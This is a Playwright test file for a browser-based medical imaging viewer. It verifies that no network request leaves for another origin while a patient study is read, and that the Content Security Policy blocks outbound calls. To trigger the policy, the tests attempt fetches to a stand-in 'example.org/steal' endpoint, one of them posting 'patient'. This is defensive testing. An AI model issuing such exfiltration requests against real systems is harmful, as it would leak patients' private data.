/** Patient data that leaves the machine is the harm nobody can take back. */
import { expect, test } from '@playwright/test';
import { drawn, phantomFiles, pick } from './support/app.ts';
import { stockShelf, thresholdModel } from './support/testModel.ts';

test('no request leaves for another origin while a study is opened and read, and the policy forbids it', async ({
  page,
  baseURL,
}) => {
  const elsewhere: string[] = [];
  const bodies: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith('http') && origin !== new URL(baseURL!).origin) elsewhere.push(request.url());
    if (request.method() !== 'GET') bodies.push(`${request.method()} ${request.url()}`);
  });
  await stockShelf(page, [thresholdModel()]);
  await page.goto('/');
  await pick(page, phantomFiles({ modality: 'MR', acquisition: 'axial' }));
  await drawn(page, ['acquired']);
  await page.getByTestId('run-bright').click();
  await expect(page.getByTestId('provenance')).toBeVisible();
  expect(elsewhere).toEqual([]);
  expect(bodies, 'nothing is sent, not even to our own server').toEqual([]);

  const blocked = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
        once: true,
      }),
    );
    await fetch('https://example.org/steal', { method: 'POST', body: 'patient' }).catch(() => undefined);
    return violation;
  });
  expect(blocked).toBe('connect-src');
});

test('the page keeps its policy on a server that sends no headers', async ({ page }) => {
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    delete headers['content-security-policy'];
    await route.fulfill({ response, headers });
  });
  await page.goto('/');
  const blocked = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
        once: true,
      }),
    );
    await fetch('https://example.org/steal').catch(() => undefined);
    return violation;
  });
  expect(blocked).toBe('connect-src');
});
